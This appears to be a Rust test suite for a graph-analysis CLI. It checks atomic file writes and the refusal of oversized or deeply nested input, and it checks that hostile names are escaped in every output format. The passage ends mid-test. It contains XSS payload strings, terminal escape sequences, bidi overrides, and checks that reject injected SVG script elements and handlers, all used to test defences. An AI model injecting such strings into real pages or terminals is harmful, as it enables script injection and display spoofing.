//! Outputs and safety: writes that never leave half a file, hostile input
//! (too large, badly encoded, absurdly nested) refused by name, hostile names
//! intact and escaped in every output format, and regressions for inputs
//! that used to break the tool. Module `outputs`: safe writing (links and
//! devices, `-o -`, sets written whole, inputs never written, temporary files
//! after signals, permissions); module `injection`: spreadsheet formulas and
//! escape sequences on terminals.

mod support;

use predicates::prelude::*;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;
use std::path::Path;
use support::graphviz::{assert_dot_accepts, has_graphviz, parse_svg};
use support::{coopgraph, hostile, write};

// ==========================================================================
// Formerly tests/writes.rs
//
// No half-written files: output goes to a temporary file that is renamed
// over the target, so a failed or interrupted command leaves the previous
// file intact; and coopgraph never writes to a --data path.

const OLD: &str = "{\"nodes\": []}\n";

/// Files in `dir` other than `keep`: temporary files left behind.
fn litter(dir: &Path, keep: &[&str]) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !keep.contains(&n.as_str()))
        .collect()
}

#[test]
fn a_write_that_fails_midway_leaves_the_previous_file_and_no_temporary_file() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("out.json");
    std::fs::write(&p, OLD).unwrap();
    let err = coopgraph::write::atomic(&p, true, |w| {
        w.write_all(b"{\"nodes\": [half a fi")?;
        Err(std::io::Error::other("disk full"))
    })
    .unwrap_err();
    assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
    assert!(litter(dir.path(), &["out.json"]).is_empty());
    // An output failure: it names the file and exits 1.
    assert_eq!(err.exit_code(), 1);
    let msg = err.to_string();
    assert!(
        msg.starts_with("cannot write ")
            && msg.contains("out.json")
            && msg.contains("disk full")
            && msg.contains("previous file is intact"),
        "{msg}"
    );
}

#[test]
fn a_successful_write_replaces_the_file_only_with_force() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("out.json");
    std::fs::write(&p, OLD).unwrap();
    let err = coopgraph::write::atomic(&p, false, |w| w.write_all(b"new")).unwrap_err();
    // The library says what is wrong; the CLI adds which option to pass.
    assert!(
        matches!(&err, coopgraph::Error::Exists { path } if *path == p),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
    coopgraph::write::atomic(&p, true, |w| w.write_all(b"new")).unwrap();
    assert_eq!(std::fs::read_to_string(&p).unwrap(), "new");
    assert!(litter(dir.path(), &["out.json"]).is_empty());
}

#[test]
fn generate_refuses_to_replace_a_file_without_force() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("gen.json");
    std::fs::write(&p, OLD).unwrap();
    coopgraph()
        .args(["generate", "--orgs", "10", "--projects", "5", "-o"])
        .arg(&p)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "exists; pass --force to replace it",
        ));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
}

#[test]
fn generate_over_a_directory_fails_and_leaves_it_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("taken");
    std::fs::create_dir(&target).unwrap();
    std::fs::write(target.join("inside.json"), OLD).unwrap();
    coopgraph()
        .args([
            "generate",
            "--orgs",
            "10",
            "--projects",
            "5",
            "--force",
            "-o",
        ])
        .arg(&target)
        .assert()
        .code(1)
        .stderr(predicate::str::contains("cannot write").and(predicate::str::contains("taken")));
    assert_eq!(
        std::fs::read_to_string(target.join("inside.json")).unwrap(),
        OLD
    );
    assert!(
        litter(dir.path(), &["taken"]).is_empty(),
        "a temporary file was left"
    );
}

#[cfg(unix)]
/// Starts `generate --force -o PATH` of a dataset large enough (tens of
/// megabytes) that it can be interrupted while it writes.
fn start_long_write(p: &Path) -> std::process::Child {
    let bin = assert_cmd::cargo::cargo_bin("coopgraph");
    std::process::Command::new(bin)
        .args([
            "generate",
            "--orgs",
            "20000",
            "--projects",
            "30000",
            "--force",
            "-o",
        ])
        .arg(p)
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap()
}

#[test]
fn generate_killed_while_writing_leaves_the_previous_file_intact() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("big.json");
    std::fs::write(&p, OLD).unwrap();
    let mut child = start_long_write(&p);
    // Wait until the write is under way: a temporary file has data (or,
    // were the write not atomic, the file itself has changed).
    let start = std::time::Instant::now();
    let writing = loop {
        let tmp = litter(dir.path(), &["big.json"]);
        let started = tmp
            .iter()
            .any(|n| std::fs::metadata(dir.path().join(n)).is_ok_and(|m| m.len() > 0))
            || std::fs::read_to_string(&p).map_or(true, |s| s != OLD);
        if started || start.elapsed() > std::time::Duration::from_secs(60) {
            break started;
        }
        if child.try_wait().unwrap().is_some() {
            break false;
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    };
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(writing, "never saw the output being written");
    assert_eq!(
        std::fs::read_to_string(&p).unwrap(),
        OLD,
        "the file was half replaced"
    );
}

#[test]
fn generate_never_writes_to_a_data_path_however_it_is_spelled() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let file = data.join("mine.json");
    std::fs::write(&file, OLD).unwrap();
    let spellings = [
        file.clone(),
        data.join(".").join("mine.json"),
        data.join("..").join("data").join("mine.json"),
    ];
    for out in &spellings {
        coopgraph()
            .args([
                "generate",
                "--orgs",
                "10",
                "--projects",
                "5",
                "--force",
                "--data",
            ])
            .arg(&file)
            .arg("-o")
            .arg(out)
            .assert()
            .code(2)
            .stderr(predicate::str::contains(
                "coopgraph never writes to its inputs",
            ));
    }
    // A new file inside a --data directory would become part of the dataset.
    coopgraph()
        .args(["generate", "--orgs", "10", "--projects", "5", "--data"])
        .arg(&data)
        .arg("-o")
        .arg(data.join("new.json"))
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "coopgraph never writes to its inputs",
        ));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), OLD);
    assert_eq!(litter(&data, &["mine.json"]), Vec::<String>::new());
}

// ==========================================================================
// Formerly tests/hostile.rs
//
// Hostile input and hostile names: files too large, in the wrong encoding
// or nested absurdly deep are refused with a message naming the file, and
// names full of quotes, markup, control characters and right-to-left text
// come out of every output format intact and escaped.
//
// `support::hostile` lists the strings the fixture
// `tests/fixtures/hostile/hostile.json` is built from; tests of further
// output formats (DOT, SVG, HTML, GraphML, GEXF) reuse it.

// ---------------------------------------------------------------- limits

#[test]
fn a_file_over_the_size_limit_is_refused_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "big.csv",
        "source,target\na,b\n".repeat(100).as_bytes(),
    );
    coopgraph()
        .args(["summary", "--max-input-size", "1K", "--data"])
        .arg(&p)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "big.csv is larger than the input size limit of 1024 bytes",
        ))
        .stderr(predicate::str::contains("--max-input-size"));
    // The same file under a limit it fits is read.
    coopgraph()
        .args(["summary", "--max-input-size", "2K", "--data"])
        .arg(&p)
        .assert()
        .success();
}

#[cfg(unix)]
#[test]
fn an_endless_device_is_cut_off_at_the_limit() {
    coopgraph()
        .args(["summary", "--max-input-size", "64K", "--data", "/dev/zero"])
        .timeout(std::time::Duration::from_secs(30))
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "/dev/zero is larger than the input size limit",
        ));
}

#[test]
fn a_bad_size_is_a_usage_error() {
    coopgraph()
        .args(["summary", "--max-input-size", "lots"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("is not a size"));
}

#[test]
fn a_latin1_spreadsheet_export_is_refused_at_its_first_bad_byte() {
    let dir = tempfile::tempdir().unwrap();
    // "Malmö" in Windows-1252, as Excel's plain "CSV" writes it.
    let p = write(
        dir.path(),
        "edges.csv",
        b"source,target\nStockholm,Malm\xf6\n",
    );
    coopgraph()
        .args(["validate", "--data"])
        .arg(&p)
        .assert()
        .code(2)
        .stdout(predicate::str::contains("edges.csv:2:15: error[encoding]"))
        .stdout(predicate::str::contains("byte 0xF6"))
        .stdout(predicate::str::contains("CSV UTF-8"));
}

#[test]
fn a_json_file_with_a_byte_order_mark_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string("tests/fixtures/ok/small.json").unwrap();
    let p = write(dir.path(), "bom.json", format!("\u{feff}{text}").as_bytes());
    coopgraph()
        .args(["validate", "--data"])
        .arg(&p)
        .assert()
        .success();
}

#[test]
fn deeply_nested_json_is_an_error_not_a_stack_overflow() {
    let dir = tempfile::tempdir().unwrap();
    let deep =
        |open: &str, close: &str| format!("{}{}", open.repeat(200_000), close.repeat(200_000));
    let cases = [
        format!("{{\"nodes\": [{}]}}", deep("[", "]")),
        format!("{{\"nodes\": [{{\"id\": {}}}]}}", deep("[", "]")),
        format!(
            "{{\"links\": [], \"nodes\": [{{\"id\": {}}}]}}",
            deep("{\"a\":", "}")
        ),
        deep("[", "]"),
    ];
    for (i, text) in cases.iter().enumerate() {
        let p = write(dir.path(), &format!("deep{i}.json"), text.as_bytes());
        coopgraph()
            .args(["validate", "--data"])
            .arg(&p)
            .assert()
            .code(2)
            .stdout(predicate::str::contains(format!("deep{i}.json:1:")));
    }
}

// ---------------------------------------------------------- hostile names

fn fixture() -> Value {
    serde_json::from_str(&std::fs::read_to_string(hostile::FIXTURE).unwrap()).unwrap()
}

fn all_strings(v: &Value, out: &mut BTreeSet<String>) {
    match v {
        Value::String(s) => {
            out.insert(s.clone());
        }
        Value::Array(a) => a.iter().for_each(|x| all_strings(x, out)),
        Value::Object(m) => m.values().for_each(|x| all_strings(x, out)),
        _ => {}
    }
}

/// Every `{"id", "name"}` object in `v`.
fn named(v: &Value, out: &mut Vec<(String, String)>) {
    match v {
        Value::Array(a) => a.iter().for_each(|x| named(x, out)),
        Value::Object(m) => {
            if let (Some(Value::String(id)), Some(Value::String(name))) =
                (m.get("id"), m.get("name"))
            {
                out.push((id.clone(), name.clone()));
            }
            m.values().for_each(|x| named(x, out));
        }
        _ => {}
    }
}

fn run_on_fixture(args: &[&str]) -> Vec<u8> {
    let out = coopgraph()
        .args(args)
        .args(["--data", hostile::FIXTURE])
        .assert()
        .success();
    out.get_output().stdout.clone()
}

/// Every command with a node or pair argument, on the fixture.
fn commands(format: &str) -> Vec<Vec<String>> {
    let mut cmds: Vec<Vec<&str>> = vec![
        vec!["summary"],
        vec!["validate"],
        vec!["find", "hostile"],
        vec!["path", "hostile-org", "hostile-state", "--all"],
        vec!["shared", "hostile-agency", "hostile-org"],
        vec!["overlap", "--kind", "agency"],
        vec!["timeline", "hostile-state", "--as-of", "2026-01-01"],
        vec!["metrics"],
        vec!["communities"],
    ];
    for id in hostile::NODE_IDS {
        cmds.push(vec!["show", id]);
        cmds.push(vec!["ego", id, "--depth", "3"]);
    }
    cmds.into_iter()
        .map(|c| {
            let mut c: Vec<String> = c.into_iter().map(String::from).collect();
            c.extend(["--format".to_string(), format.to_string()]);
            c
        })
        .collect()
}

#[test]
fn the_fixture_holds_every_hostile_string_and_validates() {
    let mut found = BTreeSet::new();
    all_strings(&fixture(), &mut found);
    for (what, s) in hostile::STRINGS {
        assert!(found.contains(*s), "the fixture has no {what} string {s:?}");
    }
    let out = run_on_fixture(&["validate"]);
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "0 error(s), 0 warning(s)\n"
    );
}

#[test]
fn json_output_round_trips_every_string_exactly() {
    let fx = fixture();
    let names: BTreeMap<String, String> = fx["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| {
            (
                n["id"].as_str().unwrap().into(),
                n["name"].as_str().unwrap().into(),
            )
        })
        .collect();
    let mut seen = BTreeSet::new();
    for cmd in commands("json") {
        if cmd[0] == "summary" || cmd[0] == "validate" {
            continue;
        }
        let args: Vec<&str> = cmd.iter().map(String::as_str).collect();
        let v: Value = serde_json::from_slice(&run_on_fixture(&args))
            .unwrap_or_else(|e| panic!("{cmd:?} wrote invalid JSON: {e}"));
        let mut pairs = Vec::new();
        named(&v, &mut pairs);
        for (id, name) in pairs {
            if let Some(want) = names.get(&id) {
                assert_eq!(&name, want, "{cmd:?}: the name of {id} changed");
            }
        }
        all_strings(&v, &mut seen);
    }
    // Roles, notes, places, descriptions, aliases and titles come out too.
    for (what, s) in hostile::STRINGS {
        assert!(
            seen.contains(*s),
            "no JSON output holds the {what} string {s:?}"
        );
    }
}

#[test]
fn csv_output_parses_back_to_the_exact_names() {
    let fx = fixture();
    let want: BTreeSet<(String, String)> = fx["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| {
            (
                n["id"].as_str().unwrap().into(),
                n["name"].as_str().unwrap().into(),
            )
        })
        .collect();
    for cmd in [
        ["metrics", "--format", "csv"],
        ["communities", "--format", "csv"],
    ] {
        let out = run_on_fixture(&cmd);
        let mut r = csv::Reader::from_reader(out.as_slice());
        let header = r.headers().unwrap().clone();
        assert_eq!(&header[0], "id");
        assert_eq!(&header[1], "name");
        let got: BTreeSet<(String, String)> = r
            .records()
            .map(|rec| {
                let rec = rec.unwrap();
                assert_eq!(rec.len(), header.len(), "{cmd:?}: a name split a row");
                (rec[0].to_string(), rec[1].to_string())
            })
            .collect();
        assert_eq!(got, want, "{cmd:?}");
    }
}

/// Characters that must never reach a terminal raw: controls other than the
/// line break, and bidirectional formatting characters.
fn unsafe_char(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn table_output_shows_control_and_bidi_characters_escaped() {
    let mut all = String::new();
    for cmd in commands("table") {
        let args: Vec<&str> = cmd.iter().map(String::as_str).collect();
        let out = String::from_utf8(run_on_fixture(&args)).unwrap();
        if let Some(c) = out.chars().find(|&c| unsafe_char(c)) {
            panic!("{cmd:?} printed a raw U+{:04X}:\n{out}", c as u32);
        }
        // Every row of a Markdown table has as many cell separators as its
        // header: no name breaks a row apart or adds a column.
        let mut cols = None;
        for line in out.lines() {
            if !line.starts_with('|') {
                cols = None;
                continue;
            }
            let seps = line.replace("\\|", "").matches('|').count();
            match cols {
                None => cols = Some(seps),
                Some(n) => assert_eq!(seps, n, "{cmd:?}: a row of another width:\n{line}"),
            }
        }
        all.push_str(&out);
    }
    // The characters are shown, not dropped; the rest of the text is kept.
    for shown in [
        "\\u{1b}[31m",
        "\\u{7}",
        "\\u{0}",
        "\\u{85}",
        "\\u{202e}مصلحة",
        "Line one\\u{a}line two\\u{d}\\u{a}line three",
        "<script>alert(1)</script>",
        "👩‍👩‍👧",
        "Pipe \\| in \\| name",
    ] {
        assert!(all.contains(shown), "table output lacks {shown:?}");
    }
}

#[test]
fn error_messages_escape_what_the_user_or_the_data_wrote() {
    coopgraph()
        .args(["show", "x\u{1b}[2Jy\u{202e}", "--data", hostile::FIXTURE])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("x\\u{1b}[2Jy\\u{202e}"))
        .stderr(predicate::function(|s: &str| !s.chars().any(unsafe_char)));
}

// ------------------------------------------------------- foreign identifiers

#[test]
fn names_in_other_scripts_keep_their_own_nodes_across_an_edge_and_a_node_list() {
    // Ids were "node", "node-2"… in order of appearance, so a node list in
    // another order than the edge list gave Beijing's edges to Shanghai.
    let dir = tempfile::tempdir().unwrap();
    let edges = write(
        dir.path(),
        "edges.csv",
        "source,target\n北京,上海\n北京,東京\n北京,大阪\n".as_bytes(),
    );
    let nodes = write(
        dir.path(),
        "nodes.csv",
        "id,name,kind\n上海,Shanghai,state\n北京,Beijing,agency\n東京,Tokyo,state\n大阪,Osaka,state\n".as_bytes(),
    );
    let out = coopgraph()
        .args(["metrics", "--metric", "degree", "--format", "csv", "--data"])
        .arg(&edges)
        .arg("--data")
        .arg(&nodes)
        .assert()
        .success();
    let mut r = csv::Reader::from_reader(out.get_output().stdout.as_slice());
    let degree: BTreeMap<String, (String, String)> = r
        .records()
        .map(|rec| {
            let rec = rec.unwrap();
            (rec[1].to_string(), (rec[2].to_string(), rec[3].to_string()))
        })
        .collect();
    assert_eq!(degree["Beijing"], ("agency".to_string(), "3".to_string()));
    for city in ["Shanghai", "Tokyo", "Osaka"] {
        assert_eq!(
            degree[city],
            ("state".to_string(), "1".to_string()),
            "{city}"
        );
    }
}

#[test]
fn diagnostics_about_hostile_names_are_escaped_on_stdout_and_stderr() {
    let broken = "tests/fixtures/hostile/hostile-broken.json";
    let out = coopgraph()
        .args(["validate", "--data", broken])
        .assert()
        .code(2);
    let stdout = String::from_utf8(out.get_output().stdout.clone()).unwrap();
    assert!(!stdout.chars().any(unsafe_char), "{stdout}");
    assert!(stdout.contains("error[alias-conflict]") && stdout.contains("escape\\u{1b}[31m"));
    let out = coopgraph()
        .args(["summary", "--data", broken])
        .assert()
        .code(2);
    let stderr = String::from_utf8(out.get_output().stderr.clone()).unwrap();
    assert!(!stderr.chars().any(unsafe_char), "{stderr}");
    assert!(stderr.contains("error[alias-conflict]") && stderr.contains("escape\\u{1b}[31m"));
    // JSON keeps the exact text.
    let out = coopgraph()
        .args(["validate", "--format", "json", "--data", broken])
        .assert()
        .code(2);
    let v: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
    let msg = v["diagnostics"][0]["message"].as_str().unwrap();
    assert!(msg.contains("escape\u{1b}[31m red"), "{msg}");
}

// ------------------------------------------------- figures, report, exports
//
// One test per output format: the output of the hostile fixture parses with
// that format's own parser, and the names read back from it are the names
// in the data, exactly, or with the replacement the format documents.

/// Node ids and names of the fixture, in dataset order.
fn node_names() -> Vec<(String, String)> {
    fixture()["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| {
            (
                n["id"].as_str().unwrap().into(),
                n["name"].as_str().unwrap().into(),
            )
        })
        .collect()
}

/// Words separated by single spaces: labels are wrapped at any whitespace.
fn words(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A string as an XML parser reads it back from our XML: characters XML
/// 1.0 cannot hold are U+FFFD (documented), the rest is exact.
fn xml_form(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '\t' | '\n' | '\r' => c,
            c if (c as u32) < 0x20 || c == '\u{FFFE}' || c == '\u{FFFF}' => '\u{FFFD}',
            c => c,
        })
        .collect()
}

/// A string as it reads in a figure's text: figures draw lines, so `\r\n`
/// is one line break, and other control characters are dropped (DOT) or
/// U+FFFD (SVG); the fixture's names hold only line breaks.
fn figure_form(s: &str) -> String {
    s.replace("\r\n", "\n")
}

fn run_ok(args: &[&str], out: &Path) {
    coopgraph()
        .args(["--data", hostile::FIXTURE])
        .args(args)
        .arg("-o")
        .arg(out)
        .arg("--force")
        .assert()
        .success();
}

/// A DOT escString as Graphviz reads it: `\"`, `\\` and `\n`, then the
/// entity `&amp;` (Graphviz reads HTML entities in every string).
fn dot_unescape(quoted: &str) -> String {
    let inner = quoted
        .strip_prefix('"')
        .and_then(|s| s.strip_suffix('"'))
        .unwrap_or_else(|| panic!("not a quoted DOT string: {quoted}"));
    let mut out = String::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('"') => out.push('"'),
            Some('\\') => out.push('\\'),
            Some('n') => out.push('\n'),
            other => panic!("unexpected escape \\{other:?} in {quoted}"),
        }
    }
    assert!(
        !out.replace("&amp;", "").contains('&'),
        "a bare & Graphviz would read as an entity: {quoted}"
    );
    out.replace("&amp;", "&")
}

#[test]
fn dot_parses_and_its_labels_and_tooltips_read_back_as_the_names() {
    use graphviz_rust::dot_structures::{Graph, Id, Stmt};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("h.dot");
    run_ok(&["render"], &path);
    let text = std::fs::read_to_string(&path).unwrap();
    let Graph::DiGraph { stmts, .. } = graphviz_rust::parse(&text).unwrap() else {
        panic!("not a digraph");
    };
    let attrs: BTreeMap<String, BTreeMap<String, String>> = stmts
        .iter()
        .filter_map(|s| match s {
            Stmt::Node(n) => Some(n),
            _ => None,
        })
        .map(|n| {
            let Id::Escaped(id) = &n.id.0 else {
                panic!("unquoted node id {:?}", n.id.0)
            };
            let attrs = n
                .attributes
                .iter()
                .filter_map(|a| match (&a.0, &a.1) {
                    (Id::Plain(k), Id::Escaped(v)) => Some((k.clone(), dot_unescape(v))),
                    _ => None,
                })
                .collect();
            (dot_unescape(id), attrs)
        })
        .collect();
    for (id, name) in node_names() {
        let node = attrs
            .get(&id)
            .unwrap_or_else(|| panic!("no node {id}: {text}"));
        let want = figure_form(&name);
        assert_eq!(words(&node["label"]), words(&want), "label of {id}");
        assert!(
            node["tooltip"].starts_with(&format!("{want} (")),
            "tooltip of {id}: {:?}",
            node["tooltip"]
        );
    }
    assert_dot_accepts(&path, "hostile names");
}

/// The text of every `<text>` element (joined, for wrapped labels) and of
/// every hover text (`<title>` elements, and `xlink:title` attributes, where
/// Graphviz puts tooltips).
fn svg_texts(svg: &str) -> (String, Vec<String>) {
    let doc = parse_svg(svg);
    let mut text = Vec::new();
    let mut titles = Vec::new();
    for n in doc.descendants() {
        match n.tag_name().name() {
            "text" => text.push(
                n.descendants()
                    .filter(|d| d.is_text())
                    .map(|d| d.text().unwrap())
                    .collect::<String>(),
            ),
            "title" => titles.push(n.text().unwrap_or_default().to_string()),
            _ => {}
        }
        if let Some(t) = n.attribute(("http://www.w3.org/1999/xlink", "title")) {
            titles.push(t.to_string());
        }
    }
    // No element or attribute the data could have injected.
    for n in doc.descendants().filter(|n| n.is_element()) {
        assert!(
            !matches!(
                n.tag_name().name(),
                "script" | "foreignObject" | "img" | "b"
            ),
            "an element from the data: <{}>",
            n.tag_name().name()
        );
        for a in n.attributes() {
            assert!(
                !a.name().starts_with("on"),
                "an event handler: {}",
                a.name()
            );
        }
    }
    (text.join(" "), titles)
}

#[test]
fn svg_figures_show_the_names_as_text_and_hover_text() {
    let dir = tempfile::tempdir().unwrap();
    let mut engines = vec!["builtin"];
    if has_graphviz() {
        engines.push("graphviz");
    }
    for engine in engines {
        let path = dir.path().join(format!("{engine}.svg"));
        run_ok(&["render", "--engine", engine], &path);
        let (text, titles) = svg_texts(&std::fs::read_to_string(&path).unwrap());
        for (id, name) in node_names() {
            let want = figure_form(&name);
            assert!(
                words(&text).contains(&words(&want)),
                "{engine}: no label reads {want:?} ({id}) in {text:?}"
            );
            assert!(
                titles.iter().any(|t| t.starts_with(&format!("{want} ("))),
                "{engine}: no hover text for {want:?} ({id}) in {titles:?}"
            );
        }
    }
    // The timeline of the agency: its title, and each entry's name in full
    // in its hover text.
    let path = dir.path().join("timeline.svg");
    run_ok(
        &["timeline", "hostile-agency", "--as-of", "2026-01-01"],
        &path,
    );
    let (text, titles) = svg_texts(&std::fs::read_to_string(&path).unwrap());
    let names: BTreeMap<String, String> = node_names().into_iter().collect();
    assert!(text.contains(&format!(
        "Cooperation history of {}",
        names["hostile-agency"]
    )));
    for id in ["hostile-project", "hostile-network"] {
        let want = &names[id];
        assert!(
            titles.iter().any(|t| t.contains(want.as_str())),
            "timeline: no hover text holds {want:?}: {titles:?}"
        );
    }
    // The heatmap: rows and columns are labelled with the full names.
    let path = dir.path().join("heatmap.svg");
    run_ok(&["heatmap"], &path);
    let (text, titles) = svg_texts(&std::fs::read_to_string(&path).unwrap());
    for id in ["hostile-agency", "hostile-network"] {
        let want = &names[id];
        assert!(text.contains(want.as_str()), "heatmap: no label {want:?}");
        assert!(
            titles.iter().any(|t| t == want),
            "heatmap: no title {want:?}"
        );
    }
}

/// `s` as HTML text: what `index.html` must hold for a name.
fn html_escaped(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

/// Raw markup the fixture's names hold: none of it may reach the report.
const RAW_MARKUP: &[&str] = &["<script", "<img src=x", "<b>", "onerror=\""];

#[test]
fn the_report_shows_hostile_names_as_text_in_html_and_markdown() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("report");
    coopgraph()
        .args(["--data", hostile::FIXTURE, "report"])
        .args(["--spec", "tests/fixtures/hostile/report.toml"])
        .args(["--engine", "builtin", "--as-of", "2026-11-21", "-o"])
        .arg(&out)
        .assert()
        .success();
    let html = std::fs::read_to_string(out.join("index.html")).unwrap();
    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
    for raw in RAW_MARKUP {
        assert!(
            !html.to_lowercase().contains(raw),
            "index.html holds raw {raw}"
        );
        // Markdown keeps quotes: markup is harmless once `<` is an entity.
        if raw.starts_with('<') {
            assert!(!md.contains(raw), "report.md holds raw {raw}");
        }
    }
    // Every node is a row of the metrics table, its name escaped exactly.
    for (id, name) in node_names() {
        assert!(
            html.contains(&format!("<td>{}</td>", html_escaped(&name))),
            "index.html has no cell for {id}: {:?}",
            html_escaped(&name)
        );
        let cell = html_escaped(&name)
            .replace("&quot;", "\"")
            .replace("&#39;", "'")
            .replace('|', "\\|")
            .replace(['\r', '\n'], " ");
        // Controls and bidirectional overrides as table output shows them.
        let cell = coopgraph::terminal::escape(&cell, false);
        assert!(
            md.contains(&format!("| {cell} |")),
            "report.md has no cell for {id}: {cell:?}"
        );
    }
    // The spec's title and captions are data too.
    assert!(html.contains(
        "Hostile &lt;script&gt;window.__coopgraph_xss=true&lt;/script&gt; &amp; &quot;names&quot;"
    ));
    // No name breaks a Markdown table row apart or adds a column.
    let mut cols = None;
    for line in md.lines() {
        if !line.starts_with('|') {
            cols = None;
            continue;
        }
        let seps = line.replace("\\|", "").matches('|').count();
        assert_eq!(*cols.get_or_insert(seps), seps, "report.md row: {line}");
    }
    // The figures the page shows parse, and hold no markup from the data.
    for f in ["everything.svg", "agency-timeline.svg", "memberships.svg"] {
        svg_texts(&std::fs::read_to_string(out.join("figures").join(f)).unwrap());
    }
}

#[test]
fn graphml_and_gexf_exports_parse_and_hold_the_names() {
    let dir = tempfile::tempdir().unwrap();
    let names: BTreeMap<String, String> = node_names().into_iter().collect();
    let fx = fixture();
    // GraphML: every node's `label` and `name` data, every relation's role
    // and note, as in the data; XML-illegal characters as U+FFFD.
    let path = dir.path().join("h.graphml");
    run_ok(&["export", "--to", "graphml"], &path);
    let text = std::fs::read_to_string(&path).unwrap();
    let doc = roxmltree::Document::parse(&text).unwrap();
    let data = |el: roxmltree::Node, key: &str| -> Option<String> {
        el.children()
            .find(|c| c.has_tag_name("data") && c.attribute("key") == Some(key))
            .map(|c| c.text().unwrap_or_default().to_string())
    };
    let mut seen = 0;
    for node in doc.descendants().filter(|n| n.has_tag_name("node")) {
        let id = node.attribute("id").unwrap();
        let want = xml_form(&names[id]);
        assert_eq!(
            data(node, "n_label").as_deref(),
            Some(want.as_str()),
            "{id}"
        );
        assert_eq!(data(node, "n_name").as_deref(), Some(want.as_str()), "{id}");
        seen += 1;
    }
    assert_eq!(seen, names.len());
    let edges: Vec<_> = doc
        .descendants()
        .filter(|n| n.has_tag_name("edge"))
        .collect();
    let relations = fx["relations"].as_array().unwrap();
    assert_eq!(edges.len(), relations.len());
    for (edge, rel) in edges.iter().zip(relations) {
        for (key, field) in [("e_role", "role"), ("e_note", "note")] {
            let want = rel[field].as_str().map(xml_form);
            assert_eq!(data(*edge, key), want, "{field} of {rel}");
        }
    }
    assert!(
        text.contains('\u{FFFD}'),
        "the control characters were not replaced"
    );
    // Imported back, the names are exact (they hold no XML-illegal character).
    let back = dir.path().join("back.json");
    coopgraph()
        .args(["import", "--from", "graphml"])
        .arg(&path)
        .arg("-o")
        .arg(&back)
        .assert()
        .success();
    let back: Value = serde_json::from_str(&std::fs::read_to_string(&back).unwrap()).unwrap();
    let mut pairs = Vec::new();
    named(&back["nodes"], &mut pairs);
    assert_eq!(pairs, node_names());
    // GEXF: names in `label` attributes, exact but for U+FFFD.
    let path = dir.path().join("h.gexf");
    run_ok(&["export", "--to", "gexf"], &path);
    let text = std::fs::read_to_string(&path).unwrap();
    let doc = roxmltree::Document::parse(&text).unwrap();
    let mut seen = 0;
    for node in doc.descendants().filter(|n| n.has_tag_name("node")) {
        let id = node.attribute("id").unwrap();
        assert_eq!(node.attribute("label"), Some(xml_form(&names[id]).as_str()));
        seen += 1;
    }
    assert_eq!(seen, names.len());
}

#[test]
fn csv_exports_parse_back_to_the_exact_strings() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("csv");
    run_ok(&["export", "--to", "csv"], &out);
    let read = |name: &str| -> Vec<BTreeMap<String, String>> {
        let mut r = csv::Reader::from_path(out.join(name)).unwrap();
        let header = r.headers().unwrap().clone();
        r.records()
            .map(|rec| {
                let rec = rec.unwrap();
                assert_eq!(rec.len(), header.len(), "{name}: a string split a row");
                header
                    .iter()
                    .zip(rec.iter())
                    .map(|(h, v)| (h.to_string(), v.to_string()))
                    .collect()
            })
            .collect()
    };
    let nodes: Vec<(String, String)> = read("nodes.csv")
        .into_iter()
        .map(|row| (row["Id"].clone(), row["Label"].clone()))
        .collect();
    assert_eq!(nodes, node_names());
    let fx = fixture();
    let edges = read("edges.csv");
    let relations = fx["relations"].as_array().unwrap();
    assert_eq!(edges.len(), relations.len());
    for (row, rel) in edges.iter().zip(relations) {
        for field in ["role", "note"] {
            assert_eq!(
                row[field],
                rel[field].as_str().unwrap_or_default(),
                "{field} of {rel}"
            );
        }
    }
}

// ------------------------------------------------------ hostile documents

#[test]
fn graphml_with_entity_definitions_is_refused_before_any_expansion() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["billion-laughs", "xxe"] {
        let input = format!("tests/fixtures/hostile/{name}.graphml");
        let out = dir.path().join(format!("{name}.json"));
        let started = std::time::Instant::now();
        coopgraph()
            .args(["import", "--from", "graphml", &input, "-o"])
            .arg(&out)
